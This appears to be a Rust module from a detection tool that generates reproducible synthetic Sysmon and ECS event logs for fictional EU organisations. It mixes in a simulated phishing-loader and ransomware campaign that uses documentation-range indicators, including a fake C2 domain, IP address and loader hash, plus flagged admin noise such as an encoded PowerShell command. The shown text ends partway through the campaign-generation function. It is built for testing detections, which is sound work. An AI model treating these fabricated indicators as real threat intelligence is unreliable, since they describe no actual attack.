//! A realistic, reproducible workload: Windows events of many hosts in many organisations
//! across NIS2 sectors and EU member states, with the NIGHTGLASS exercise campaign mixed in.
//! Events come in one of two [`Shape`]s: flat Sysmon field names (NXLog, evtx_to_jsonl) or
//! nested Elastic Common Schema as Winlogbeat writes it; the same seed gives the same
//! activity in either, so the `sysmon` and `ecs` profiles can be checked against each other.
//!
//! Background activity is ordinary office and server life — browsers, Office, services,
//! DNS lookups, network connections, file writes — including some administrative noise
//! that generic rules do flag (an admin's `whoami`, a management agent's encoded
//! PowerShell, `vssadmin list shadows`), so that a demo can show those detections do not
//! become warnings. The campaign is a phishing-delivered loader followed by ransomware at
//! six organisations in three sectors and six member states over a few hours; all its
//! infrastructure uses documentation address ranges and reserved names.
//!
//! The output is a pure function of the [`Workload`] (seed, event count, mix, shape): a
//! SplitMix64 generator, a fixed base time, no wall clock.

use std::io::Write;

use anyhow::Result;

use tocsin_core::Timestamp;

/// How events are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, clap::ValueEnum)]
pub enum Shape {
    /// Flat Sysmon names (`Image`, `CommandLine`, `Channel`, `EventID`): the `sysmon` profile.
    #[default]
    Sysmon,
    /// Nested ECS as Winlogbeat writes it (`process.executable`, `winlog.channel`), with the
    /// raw Sysmon fields under `winlog.event_data`: the `ecs` profile.
    Ecs,
}

/// Where events are written, and in which shape.
struct Out {
    buf: Vec<u8>,
    shape: Shape,
}

/// SplitMix64: small, fast, and the same on every platform.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Rng(seed ^ 0x9E37_79B9_7F4A_7C15)
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    pub fn below(&mut self, n: u64) -> u64 {
        ((self.next_u64() as u128 * n as u128) >> 64) as u64
    }

    pub fn pick<'a, T>(&mut self, xs: &'a [T]) -> &'a T {
        &xs[self.below(xs.len() as u64) as usize]
    }
}

/// An organisation: display name, host prefix, NIS2 sector slug, member state, sensor.
/// Its texts sit in one allocation: every event reads four of them from a random
/// organisation, and with 10^5 organisations separate strings meant a cache miss each.
#[derive(Debug, Clone)]
pub struct Org {
    /// name, short name, member state and sensor, one after another.
    text: Box<str>,
    /// Where the short name, the member state and the sensor start in `text`.
    ends: [u32; 3],
    pub sector: &'static str,
}

impl Org {
    fn new(name: &str, short: &str, sector: &'static str, member_state: &str) -> Self {
        let sensor = format!("sysmon-{}", short.to_ascii_lowercase());
        let text = [name, short, member_state, &sensor]
            .concat()
            .into_boxed_str();
        let a = name.len() as u32;
        let b = a + short.len() as u32;
        let c = b + member_state.len() as u32;
        Org {
            text,
            ends: [a, b, c],
            sector,
        }
    }

    /// Display name ("Klinikum Nordstadt").
    pub fn name(&self) -> &str {
        &self.text[..self.ends[0] as usize]
    }

    /// Host name prefix ("KLN").
    pub fn short(&self) -> &str {
        &self.text[self.ends[0] as usize..self.ends[1] as usize]
    }

    /// ISO 3166-1 alpha-2 code of the member state.
    pub fn member_state(&self) -> &str {
        &self.text[self.ends[1] as usize..self.ends[2] as usize]
    }

    /// The organisation's sensor: `sysmon-<short name, lower-cased>`.
    pub fn sensor(&self) -> &str {
        &self.text[self.ends[2] as usize..]
    }
}

/// The named organisations of the default workload (fictional): name, host prefix, sector,
/// member state. The first six are the first campaign wave's victims.
const NAMED_ORGS: &[(&str, &str, &str, &str)] = &[
    ("Klinikum Nordstadt", "KLN", "health", "DE"),
    ("Hopital Saint-Aubin", "HSA", "health", "FR"),
    ("Rete Elettrica Adriatica", "REA", "energy", "IT"),
    (
        "Rijksdienst Digitale Zaken",
        "RDZ",
        "public-administration",
        "NL",
    ),
    ("Energie Vltava", "EVL", "energy", "CZ"),
    (
        "Agencia Tributaria del Sur",
        "ATS",
        "public-administration",
        "ES",
    ),
    ("Universitaetsklinikum Rheinland", "UKR", "health", "DE"),
    ("Stadtwerke Oberau", "SWO", "energy", "DE"),
    (
        "Bundesamt fuer Statistikdienste",
        "BFS",
        "public-administration",
        "DE",
    ),
    ("Banque Lemaire", "BLM", "banking", "FR"),
    ("Eaux de Lorraine", "EDL", "drinking-water", "FR"),
    ("Prefecture Numerique", "PRN", "public-administration", "FR"),
    ("Ospedale San Marco", "OSM", "health", "IT"),
    ("Ferrovie Ligure", "FRL", "transport", "IT"),
    ("Zorggroep Delta", "ZGD", "health", "NL"),
    ("Havenbedrijf Noordzee", "HBN", "transport", "NL"),
    ("Nemocnice Brno-Jih", "NBJ", "health", "CZ"),
    ("Hospital Costa Blanca", "HCB", "health", "ES"),
    ("Red Electrica Meseta", "REM", "energy", "ES"),
    ("Szpital Wojewodzki Lublin", "SWL", "health", "PL"),
    ("Energa Polnoc", "ENP", "energy", "PL"),
    ("Landeskrankenhaus Steiermark", "LKS", "health", "AT"),
    ("Wiener Datenzentrum", "WDZ", "digital-infrastructure", "AT"),
    ("Centre Hospitalier Namur", "CHN", "health", "BE"),
    ("Elia Transport Sud", "ETS", "energy", "BE"),
    ("Sairaala Pohjola", "SPO", "health", "FI"),
    ("Vesilaitos Etela", "VLE", "drinking-water", "FI"),
    (
        "Riigi Infosusteemide Keskus",
        "RIK",
        "public-administration",
        "EE",
    ),
    ("Ospidal Reigiunach", "ORG", "health", "IE"),
    (
        "Cloudhost Luxembourg",
        "CHL",
        "digital-infrastructure",
        "LU",
    ),
];

/// Sectors in the order a workload takes them: those of the named organisations first,
/// then the other NIS2 sectors in Annex order.
fn sector_order() -> Vec<&'static str> {
    let mut order: Vec<&'static str> = Vec::new();
    for &(_, _, sector, _) in NAMED_ORGS {
        if !order.contains(&sector) {
            order.push(sector);
        }
    }
    for sector in tocsin_core::Sector::ALL {
        if !order.contains(&sector.slug()) {
            order.push(sector.slug());
        }
    }
    order
}

/// Member states in the order a workload takes them: those of the named organisations
/// first, then the other EU member states.
fn member_state_order() -> Vec<String> {
    let mut order: Vec<String> = Vec::new();
    for &(_, _, _, ms) in NAMED_ORGS {
        if !order.iter().any(|o| o == ms) {
            order.push(ms.to_owned());
        }
    }
    for ms in tocsin_core::MemberState::EU {
        if !order.iter().any(|o| o == ms.as_str()) {
            order.push(ms.as_str().to_owned());
        }
    }
    order
}

/// The organisations of a workload, and how they spread over sectors and member states.
#[derive(Debug, Clone)]
pub struct Topology {
    pub orgs: Vec<Org>,
    pub sectors: usize,
    pub member_states: usize,
}

impl Topology {
    /// `orgs` organisations over the first `sectors` sectors and `member_states` member
    /// states of the workload's order. Organisation `i` is the `i`th named one when that
    /// one's sector and member state are among those chosen; otherwise it is a numbered
    /// organisation in sector `i mod sectors` and member state `i mod member_states`, so
    /// that every sector and member state has organisations once there are enough.
    pub fn new(orgs: usize, sectors: usize, member_states: usize) -> Result<Self> {
        let sector_order = sector_order();
        let ms_order = member_state_order();
        anyhow::ensure!(
            (1..=MAX_ORGS).contains(&orgs),
            "--orgs must be between 1 and {MAX_ORGS}"
        );
        anyhow::ensure!(
            (1..=sector_order.len()).contains(&sectors),
            "--sectors must be between 1 and {} (the NIS2 sectors)",
            sector_order.len()
        );
        anyhow::ensure!(
            (1..=ms_order.len()).contains(&member_states),
            "--member-states must be between 1 and {} (the EU member states)",
            ms_order.len()
        );
        let sectors_used = &sector_order[..sectors];
        let states_used = &ms_order[..member_states];
        let orgs = (0..orgs)
            .map(|i| match NAMED_ORGS.get(i) {
                Some(&(name, short, sector, ms))
                    if sectors_used.contains(&sector) && states_used.iter().any(|s| s == ms) =>
                {
                    Org::new(name, short, sector, ms)
                }
                _ => {
                    let sector = sectors_used[i % sectors];
                    let member_state = &states_used[i % member_states];
                    Org::new(
                        &format!("Entity {i:05} ({sector}, {member_state})"),
                        &format!("E{i:05}"),
                        sector,
                        member_state,
                    )
                }
            })
            .collect();
        Ok(Topology {
            orgs,
            sectors,
            member_states,
        })
    }
}

impl Default for Topology {
    /// The thirty named organisations: seven sectors, thirteen member states.
    fn default() -> Self {
        Topology::new(NAMED_ORGS.len(), 7, 13).expect("the default topology is valid")
    }
}

/// The size and mix of a workload. `tocsin gen` and `tocsin demo` build one; the output
/// is a pure function of it.
#[derive(Debug, Clone)]
pub struct Workload {
    /// Background events (the campaign's come on top).
    pub events: u64,
    pub seed: u64,
    pub shape: Shape,
    pub topology: Topology,
    /// Hosts per organisation: the first (up to) six are servers, the rest workstations.
    pub hosts_per_org: u64,
    /// Campaign waves, spread evenly over the workload's time span.
    pub campaign_waves: u64,
}

/// Most organisations (they are built once, ~150 bytes each).
pub const MAX_ORGS: usize = 1_000_000;
/// Most hosts per organisation (host names are built per event; numbers up to 7 digits).
pub const MAX_HOSTS_PER_ORG: u64 = 10_000_000;
/// Most campaign waves: their events are built up front (~30 kB per wave, so 60 MB at
/// most); 2,000 waves in eight hours is already one every 15 seconds.
pub const MAX_WAVES: u64 = 2_000;

impl Workload {
    /// The default mix: the named organisations, 60 hosts each, one campaign wave.
    pub fn new(events: u64, seed: u64, shape: Shape) -> Self {
        Workload {
            events,
            seed,
            shape,
            topology: Topology::default(),
            hosts_per_org: 60,
            campaign_waves: 1,
        }
    }

    fn check(&self) -> Result<()> {
        anyhow::ensure!(
            !self.topology.orgs.is_empty(),
            "a workload needs at least one organisation"
        );
        anyhow::ensure!(
            (1..=MAX_HOSTS_PER_ORG).contains(&self.hosts_per_org),
            "--hosts-per-org must be between 1 and {MAX_HOSTS_PER_ORG}"
        );
        anyhow::ensure!(
            self.campaign_waves <= MAX_WAVES,
            "{} campaign waves; at most {MAX_WAVES} are supported",
            self.campaign_waves
        );
        Ok(())
    }
}

/// The first campaign wave's infrastructure (also in rules/iocs/cert-eu-sample.txt).
pub const C2_DOMAIN: &str = "cdn.invoice-viewer.example";
pub const C2_IP: &str = "203.0.113.47";
pub const LOADER_SHA256: &str = "9f2c4b7e1d3a5c6b8e0f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f";
/// Organisations hit by the loader stage of a wave; the ransomware stage follows at those
/// in positions [`RANSOM_STAGE`] of the wave's victims.
pub const WAVE_VICTIMS: usize = 6;
pub const RANSOM_STAGE: [usize; 4] = [0, 2, 3, 4];

/// One wave's infrastructure: the first wave's is the published sample's; later waves use
/// domains of their own (`cdn.invoice-viewer2.example`: not a subdomain of the sample's
/// indicator) and documentation addresses, so only rules find them. The addresses cycle
/// through 198.51.100.0/24 and 192.0.2.0/24: waves after the 509th reuse them.
struct Infrastructure {
    c2_domain: String,
    c2_ip: String,
    loader_sha256: String,
}

fn infrastructure(wave: u64) -> Infrastructure {
    if wave == 0 {
        return Infrastructure {
            c2_domain: C2_DOMAIN.to_owned(),
            c2_ip: C2_IP.to_owned(),
            loader_sha256: LOADER_SHA256.to_owned(),
        };
    }
    let n = wave - 1;
    let net = ["198.51.100", "192.0.2"][(n / 254 % 2) as usize];
    Infrastructure {
        c2_domain: format!("cdn.invoice-viewer{wave}.example"),
        c2_ip: format!("{net}.{}", 1 + n % 254),
        loader_sha256: ascii(&fake_sha256(&format!("loader-wave-{wave}"))).to_owned(),
    }
}

const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";
const HOUR: i64 = 3_600_000;
const SPAN: i64 = 8 * HOUR;

/// The start of the workload's event time.
pub fn base_time() -> Timestamp {
    Timestamp::from_civil(2026, 3, 2, 6, 0, 0)
}

/// A JSON object writer for one flat event.
struct Obj<'a> {
    out: &'a mut Vec<u8>,
    first: bool,
}

impl<'a> Obj<'a> {
    fn new(out: &'a mut Vec<u8>) -> Self {
        out.push(b'{');
        Obj { out, first: true }
    }

    fn key(&mut self, k: &str) {
        if !self.first {
            self.out.push(b',');
        }
        self.first = false;
        self.out.push(b'"');
        self.out.extend_from_slice(k.as_bytes());
        self.out.extend_from_slice(b"\":");
    }

    fn s(&mut self, k: &str, v: &str) -> &mut Self {
        self.key(k);
        self.out.push(b'"');
        let bytes = v.as_bytes();
        // Runs without anything to escape are copied whole; a value with nothing to escape
        // (a branch-free scan, which vectorises, says so) in one copy.
        let escapes = |b: u8| (b < 0x20) | (b == b'"') | (b == b'\\');
        if !bytes.iter().fold(false, |any, &b| any | escapes(b)) {
            self.out.extend_from_slice(bytes);
            self.out.push(b'"');
            return self;
        }
        let mut start = 0;
        for (i, &b) in bytes.iter().enumerate() {
            if escapes(b) {
                self.out.extend_from_slice(&bytes[start..i]);
                match b {
                    b'"' => self.out.extend_from_slice(b"\\\""),
                    b'\\' => self.out.extend_from_slice(b"\\\\"),
                    b => {
                        let _ = write!(self.out, "\\u{:04x}", b);
                    }
                }
                start = i + 1;
            }
        }
        self.out.extend_from_slice(&bytes[start..]);
        self.out.push(b'"');
        self
    }

    fn n(&mut self, k: &str, v: u64) -> &mut Self {
        self.key(k);
        push_decimal(self.out, v);
        self
    }

    /// A number written as a JSON string (ECS keeps `event.code` as text).
    fn n_text(&mut self, k: &str, v: u64) -> &mut Self {
        self.key(k);
        self.out.push(b'"');
        push_decimal(self.out, v);
        self.out.push(b'"');
        self
    }

    /// Open a nested object under `k`.
    fn open(&mut self, k: &str) -> &mut Self {
        self.key(k);
        self.out.push(b'{');
        self.first = true;
        self
    }

    /// Close the innermost nested object.
    fn close(&mut self) -> &mut Self {
        self.out.push(b'}');
        self.first = false;
        self
    }

    fn end(&mut self) {
        self.out.extend_from_slice(b"}\n");
    }
}

/// `v` in decimal, without the formatting machinery (this runs several times for every
/// event): the digits are `buf[first..]`.
fn decimal(mut v: u64) -> ([u8; 20], usize) {
    let mut buf = [0u8; 20];
    let mut first = buf.len();
    loop {
        first -= 1;
        buf[first] = b'0' + (v % 10) as u8;
        v /= 10;
        if v == 0 {
            return (buf, first);
        }
    }
}

/// Append `v` in decimal.
fn push_decimal(out: &mut Vec<u8>, v: u64) {
    let (digits, first) = decimal(v);
    out.extend_from_slice(&digits[first..]);
}

/// A stable fake SHA-256 (64 lower-case hex digits) for a benign binary name.
fn fake_sha256(name: &str) -> [u8; 64] {
    const HEX: &[u8; 16] = b"0123456789abcdef";
    let mut r = Rng::new(name.bytes().fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
        (h ^ b as u64).wrapping_mul(0x100_0000_01b3)
    }));
    let mut hex = [0u8; 64];
    for chunk in hex.chunks_exact_mut(16) {
        let v = r.next_u64();
        for (j, digit) in chunk.iter_mut().enumerate() {
            *digit = HEX[((v >> (4 * (15 - j))) & 0xf) as usize];
        }
    }
    hex
}

/// ASCII bytes as text (the generator's own hex digits and timestamps).
fn ascii(bytes: &[u8]) -> &str {
    std::str::from_utf8(bytes).expect("generated ASCII")
}

/// An event time in both forms the events carry: RFC 3339 (`2026-03-02T06:00:00.000Z`)
/// and Sysmon's UtcTime (`2026-03-02 06:00:00.000`), written without allocating.
struct EventTime {
    rfc3339: [u8; 24],
}

impl EventTime {
    fn new(t: Timestamp) -> Self {
        EventTime {
            rfc3339: t
                .rfc3339_bytes()
                .expect("workload times lie in 2026 (base_time plus hours)"),
        }
    }

    fn rfc3339(&self) -> &str {
        ascii(&self.rfc3339)
    }

    fn utc_time(&self) -> [u8; 23] {
        let mut b = [0u8; 23];
        b.copy_from_slice(&self.rfc3339[..23]);
        b[10] = b' ';
        b
    }
}

/// A short text built on the stack: host and user names are made per event, so that a
/// workload of millions of hosts holds no table of them (and picking one is no cache miss).
#[derive(Clone, Copy)]
struct ShortText {
    buf: [u8; 64],
    len: usize,
}

impl ShortText {
    fn new() -> Self {
        ShortText {
            buf: [0; 64],
            len: 0,
        }
    }

    fn push(&mut self, s: &str) -> &mut Self {
        self.buf[self.len..self.len + s.len()].copy_from_slice(s.as_bytes());
        self.len += s.len();
        self
    }

    /// `v` in decimal, zero-padded to `width` digits.
    fn push_number(&mut self, v: u64, width: usize) -> &mut Self {
        let (digits, first) = decimal(v);
        for _ in digits.len() - first..width {
            self.push("0");
        }
        self.push(ascii(&digits[first..]))
    }

    fn as_str(&self) -> &str {
        std::str::from_utf8(&self.buf[..self.len]).expect("built from text")
    }
}

/// One host of an organisation, with its user and that user's profile directory.
struct Host<'a> {
    org: &'a Org,
    host: ShortText,
    user: ShortText,
    user_dir: ShortText,
}

/// The ECS members every event carries (Winlogbeat's layout), with `event_data` (the raw
/// Sysmon fields under `winlog.event_data`) written by the caller's closure.
fn ecs_header(
    o: &mut Obj<'_>,
    t: Timestamp,
    event_id: u64,
    category: &str,
    h: &Host<'_>,
    event_data: impl FnOnce(&mut Obj<'_>),
) {
    let time = EventTime::new(t);
    o.s("@timestamp", time.rfc3339())
        .open("agent")
        .s("type", "winlogbeat")
        .s("id", h.org.sensor())
        .close()
        .open("host")
        .s("name", h.host.as_str())
        .close()
        .open("labels")
        .s("sector", h.org.sector)
        .s("member_state", h.org.member_state())
        .close()
        .open("organization")
        .s("name", h.org.name())
        .close()
        .open("event")
        .n_text("code", event_id)
        .s("category", category)
        .s("module", "sysmon")
        .s("provider", "Microsoft-Windows-Sysmon")
        .close()
        .open("winlog")
        .s("channel", SYSMON)
        .n("event_id", event_id)
        .s("computer_name", h.host.as_str())
        .open("event_data")
        .s("UtcTime", ascii(&time.utc_time()));
    event_data(o);
    o.close().close();
}

fn header(o: &mut Obj<'_>, t: Timestamp, event_id: u64, h: &Host<'_>) {
    let time = EventTime::new(t);
    o.s("@timestamp", time.rfc3339())
        .n("EventID", event_id)
        .s("Channel", SYSMON)
        .s("Hostname", h.host.as_str())
        .s("UtcTime", ascii(&time.utc_time()))
        .s("sector", h.org.sector)
        .s("member_state", h.org.member_state())
        .s("organisation", h.org.name())
        .s("sensor", h.org.sensor());
}

#[allow(clippy::too_many_arguments)]
fn process(
    out: &mut Out,
    t: Timestamp,
    h: &Host<'_>,
    rng: &mut Rng,
    image: &str,
    cmd: &str,
    parent: &str,
    integrity: &str,
    hash: Option<&str>,
) {
    let pid = 1000 + rng.below(60_000);
    let ppid = 500 + rng.below(20_000);
    let benign_sha;
    let sha = match hash {
        Some(x) => x,
        None => {
            benign_sha = fake_sha256(image);
            ascii(&benign_sha)
        }
    };
    // `SHA256=<64 hex>,IMPHASH=<32 upper-case hex>`, on the stack.
    let mut hashes = [0u8; 7 + 64 + 9 + 32];
    hashes[..7].copy_from_slice(b"SHA256=");
    hashes[7..71].copy_from_slice(&sha.as_bytes()[..64]);
    hashes[71..80].copy_from_slice(b",IMPHASH=");
    hashes[80..].copy_from_slice(&fake_sha256(cmd)[..32]);
    hashes[80..].make_ascii_uppercase();
    let hashes = ascii(&hashes);
    let mut o = Obj::new(&mut out.buf);
    match out.shape {
        Shape::Sysmon => {
            header(&mut o, t, 1, h);
            o.n("ProcessId", pid)
                .s("Image", image)
                .s("CommandLine", cmd)
                .s("CurrentDirectory", "C:\\Windows\\system32\\")
                .s("User", h.user.as_str())
                .s("IntegrityLevel", integrity)
                .s("Hashes", hashes)
                .n("ParentProcessId", ppid)
                .s("ParentImage", parent);
        }
        Shape::Ecs => {
            ecs_header(&mut o, t, 1, "process", h, |o| {
                o.s("IntegrityLevel", integrity).s("Hashes", hashes);
            });
            o.open("process")
                .n("pid", pid)
                .s("executable", image)
                .s("command_line", cmd)
                .s("working_directory", "C:\\Windows\\system32\\")
                .open("hash")
                .s("sha256", sha)
                .close()
                .open("parent")
                .n("pid", ppid)
                .s("executable", parent)
                .close()
                .close()
                .open("user")
                .s("name", h.user.as_str())
                .close();
        }
    }
    o.end();
}

fn network(
    out: &mut Out,
    t: Timestamp,
    h: &Host<'_>,
    rng: &mut Rng,
    image: &str,
    ip: &str,
    host: &str,
) {
    let source_ip = format!(
        "10.{}.{}.{}",
        rng.below(255),
        rng.below(255),
        1 + rng.below(250)
    );
    let source_port = 49152 + rng.below(16000);
    let mut o = Obj::new(&mut out.buf);
    match out.shape {
        Shape::Sysmon => {
            header(&mut o, t, 3, h);
            o.s("Image", image)
                .s("User", h.user.as_str())
                .s("Protocol", "tcp")
                .s("Initiated", "true")
                .s("SourceIp", &source_ip)
                .n("SourcePort", source_port)
                .s("DestinationIp", ip)
                .s("DestinationHostname", host)
                .n("DestinationPort", 443);
        }
        Shape::Ecs => {
            ecs_header(&mut o, t, 3, "network", h, |o| {
                o.s("Initiated", "true");
            });
            o.open("process")
                .s("executable", image)
                .close()
                .open("user")
                .s("name", h.user.as_str())
                .close()
                .open("network")
                .s("transport", "tcp")
                .close()
                .open("source")
                .s("ip", &source_ip)
                .n("port", source_port)
                .close()
                .open("destination")
                .s("ip", ip)
                .s("domain", host)
                .n("port", 443)
                .close();
        }
    }
    o.end();
}

fn dns(out: &mut Out, t: Timestamp, h: &Host<'_>, image: &str, query: &str, result: &str) {
    let results = format!("::ffff:{result};");
    let mut o = Obj::new(&mut out.buf);
    match out.shape {
        Shape::Sysmon => {
            header(&mut o, t, 22, h);
            o.s("Image", image)
                .s("QueryName", query)
                .s("QueryStatus", "0")
                .s("QueryResults", &results);
        }
        Shape::Ecs => {
            ecs_header(&mut o, t, 22, "network", h, |o| {
                o.s("QueryStatus", "0").s("QueryResults", &results);
            });
            o.open("process")
                .s("executable", image)
                .close()
                .open("dns")
                .open("question")
                .s("name", query)
                .close()
                .close();
        }
    }
    o.end();
}

fn file(out: &mut Out, t: Timestamp, h: &Host<'_>, image: &str, target: &str) {
    let mut o = Obj::new(&mut out.buf);
    match out.shape {
        Shape::Sysmon => {
            header(&mut o, t, 11, h);
            o.s("Image", image)
                .s("TargetFilename", target)
                .s("User", h.user.as_str());
        }
        Shape::Ecs => {
            ecs_header(&mut o, t, 11, "file", h, |_| {});
            o.open("process")
                .s("executable", image)
                .close()
                .open("file")
                .s("path", target)
                .close()
                .open("user")
                .s("name", h.user.as_str())
                .close();
        }
    }
    o.end();
}

const CHROME: &str = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe";
const EDGE: &str = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";
const WORD: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const EXCEL: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE";
const OUTLOOK: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";
const TEAMS: &str = "C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe";
const EXPLORER: &str = "C:\\Windows\\explorer.exe";
const SVCHOST: &str = "C:\\Windows\\System32\\svchost.exe";
const SERVICES: &str = "C:\\Windows\\System32\\services.exe";
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const WHOAMI: &str = "C:\\Windows\\System32\\whoami.exe";
const VSSADMIN: &str = "C:\\Windows\\System32\\vssadmin.exe";
const WBADMIN: &str = "C:\\Windows\\System32\\wbadmin.exe";
const CCMEXEC: &str = "C:\\Windows\\CCM\\CcmExec.exe";
const NOTEPAD: &str = "C:\\Windows\\System32\\notepad.exe";

const BENIGN_DOMAINS: &[&str] = &[
    "login.microsoftonline.com",
    "outlook.office365.com",
    "www.google.com",
    "update.googleapis.com",
    "teams.microsoft.com",
    "ctldl.windowsupdate.com",
    "www.wikipedia.org",
    "github.com",
    "europa.eu",
    "www.enisa.europa.eu",
    "cdn.jsdelivr.net",
    "fonts.gstatic.com",
    "settings-win.data.microsoft.com",
    "invoice-portal.example.org",
];

fn benign_ip(rng: &mut Rng) -> String {
    let prefixes = [
        "20.190.151",
        "13.107.42",
        "142.250.185",
        "52.97.146",
        "151.101.1",
        "185.199.108",
    ];
    format!("{}.{}", rng.pick(&prefixes), 1 + rng.below(250))
}

/// Host `n` of an organisation: numbers below 6 are servers (run by a backup service
/// account), the rest workstations (one user each).
fn host_of(org: &Org, n: u64) -> Host<'_> {
    let (mut host, mut user, mut user_dir) = (ShortText::new(), ShortText::new(), ShortText::new());
    host.push(org.short());
    user.push(org.short()).push("\\");
    user_dir.push("C:\\Users\\");
    if n < 6 {
        host.push("-SRV").push_number(n, 2);
        user.push("svc_backup");
        user_dir.push("svc_backup");
    } else {
        host.push("-WS").push_number(n, 3);
        user.push("user").push_number(n, 3);
        user_dir.push("user").push_number(n, 3);
    }
    Host {
        org,
        host,
        user,
        user_dir,
    }
}

/// The organisations of the next background events, drawn two events ahead.
///
/// Why: with 10^5 organisations and more, an event's organisation (its record, then its
/// texts) was two cache misses, a fifth of the time of an event. Drawn two events ahead,
/// the record of the one after next is asked for at the end of each event, and the texts
/// of the next one, whose record came in an event ago.
struct OrgsAhead<'t> {
    orgs: &'t [Org],
    /// The organisations of the next event and of the one after it.
    next: [usize; 2],
}

impl<'t> OrgsAhead<'t> {
    fn new(orgs: &'t [Org], rng: &mut Rng) -> Self {
        let next = [Self::draw(orgs, rng), Self::draw(orgs, rng)];
        let ahead = OrgsAhead { orgs, next };
        tocsin_core::prefetch(&orgs[next[0]]);
        tocsin_core::prefetch(&orgs[next[1]]);
        tocsin_core::prefetch(orgs[next[0]].text.as_ptr());
        ahead
    }

    fn draw(orgs: &[Org], rng: &mut Rng) -> usize {
        rng.below(orgs.len() as u64) as usize
    }

    /// The next event's organisation; draws the one after next and asks for it.
    fn take(&mut self, rng: &mut Rng) -> &'t Org {
        let org = &self.orgs[self.next[0]];
        self.next = [self.next[1], Self::draw(self.orgs, rng)];
        tocsin_core::prefetch(&self.orgs[self.next[1]]);
        tocsin_core::prefetch(self.orgs[self.next[0]].text.as_ptr());
        org
    }
}

/// One background event at time `t` in organisation `org`.
fn background(out: &mut Out, t: Timestamp, rng: &mut Rng, org: &Org, per_org: u64) {
    let h = &host_of(org, rng.below(per_org));
    let user_dir = h.user_dir.as_str();
    let k = rng.below(900);
    match rng.below(100) {
        0..=9 => process(
            out,
            t,
            h,
            rng,
            CHROME,
            &format!("\"{CHROME}\" --type=renderer --lang=en-US --renderer-client-id={k}"),
            EXPLORER,
            "Medium",
            None,
        ),
        10..=15 => process(
            out,
            t,
            h,
            rng,
            WORD,
            &format!("\"{WORD}\" /n \"{user_dir}\\Documents\\report-{k}.docx\""),
            EXPLORER,
            "Medium",
            None,
        ),
        16..=19 => process(
            out,
            t,
            h,
            rng,
            EXCEL,
            &format!("\"{EXCEL}\" \"{user_dir}\\Documents\\budget-{k}.xlsx\""),
            EXPLORER,
            "Medium",
            None,
        ),
        20..=27 => process(
            out,
            t,
            h,
            rng,
            SVCHOST,
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            SERVICES,
            "System",
            None,
        ),
        28..=30 => process(
            out,
            t,
            h,
            rng,
            CMD,
            &format!("cmd.exe /c dir \"{user_dir}\\Desktop\""),
            EXPLORER,
            "Medium",
            None,
        ),
        31..=33 => process(
            out,
            t,
            h,
            rng,
            POWERSHELL,
            "powershell.exe -NoProfile -Command Get-ChildItem -Path C:\\Shares -Recurse",
            EXPLORER,
            "Medium",
            None,
        ),
        34..=35 => process(
            out,
            t,
            h,
            rng,
            NOTEPAD,
            &format!("notepad.exe \"{user_dir}\\Desktop\\notes.txt\""),
            EXPLORER,
            "Medium",
            None,
        ),
        36 => {
            // Admin noise flagged by generic rules, never by a campaign.
            match rng.below(10) {
                0..=4 => process(out, t, h, rng, WHOAMI, "whoami /all", CMD, "High", None),
                5..=6 => process(out, t, h, rng, POWERSHELL, "powershell.exe -NoProfile -NonInteractive -EncodedCommand RwBlAHQALQBTAGUAcgB2AGkAYwBlACAAQwBjAG0ARQB4AGUAYwA=", CCMEXEC, "System", None),
                _ => process(out, t, h, rng, VSSADMIN, "vssadmin.exe list shadows", CMD, "High", None),
            }
        }
        37..=59 => {
            let (image, host) = match rng.below(4) {
                0 => (CHROME, *rng.pick(BENIGN_DOMAINS)),
                1 => (OUTLOOK, "outlook.office365.com"),
                2 => (TEAMS, "teams.microsoft.com"),
                _ => (EDGE, *rng.pick(BENIGN_DOMAINS)),
            };
            let ip = benign_ip(rng);
            network(out, t, h, rng, image, &ip, host)
        }
        60..=84 => {
            let q = *rng.pick(BENIGN_DOMAINS);
            let image = if rng.below(2) == 0 { CHROME } else { SVCHOST };
            let ip = benign_ip(rng);
            dns(out, t, h, image, q, &ip)
        }
        _ => {
            let (image, target) = match rng.below(3) {
                0 => (
                    CHROME,
                    format!("{user_dir}\\Downloads\\invoice-{}.pdf", rng.below(10_000)),
                ),
                1 => (
                    WORD,
                    format!(
                        "{user_dir}\\AppData\\Roaming\\Microsoft\\Word\\~WRL{:04}.tmp",
                        rng.below(10_000)
                    ),
                ),
                _ => (
                    EXPLORER,
                    format!("{user_dir}\\Documents\\scan-{}.png", rng.below(10_000)),
                ),
            };
            file(out, t, h, image, &target)
        }
    }
}

/// The campaign's events, every wave, as (time, JSON line), in time order. The workload
/// has been checked.
fn campaign_events(w: &Workload) -> Vec<(Timestamp, Vec<u8>)> {
    let mut events: Vec<(Timestamp, Vec<u8>)> = Vec::new();
    for wave in 0..w.campaign_waves {
        let start = base_time().0 + (SPAN as i128 * wave as i128 / w.campaign_waves as i128) as i64;
        wave_events(w, wave, start, &mut events);
    }
    events.sort_by_key(|(t, _)| *t);
    events
}

/// One campaign wave starting at `base`: the loader at [`WAVE_VICTIMS`] organisations
/// 25 minutes apart, the ransomware at four of them two hours later.
fn wave_events(w: &Workload, wave: u64, base: i64, events: &mut Vec<(Timestamp, Vec<u8>)>) {
    let (seed, shape, orgs) = (w.seed, w.shape, &w.topology.orgs);
    // Wave 0 draws exactly what the single campaign always drew.
    let wave_seed = seed ^ (wave << 32);
    let mut rng = Rng::new(seed.wrapping_add(0xC0FFEE).wrapping_add(wave << 40));
    let infra = infrastructure(wave);
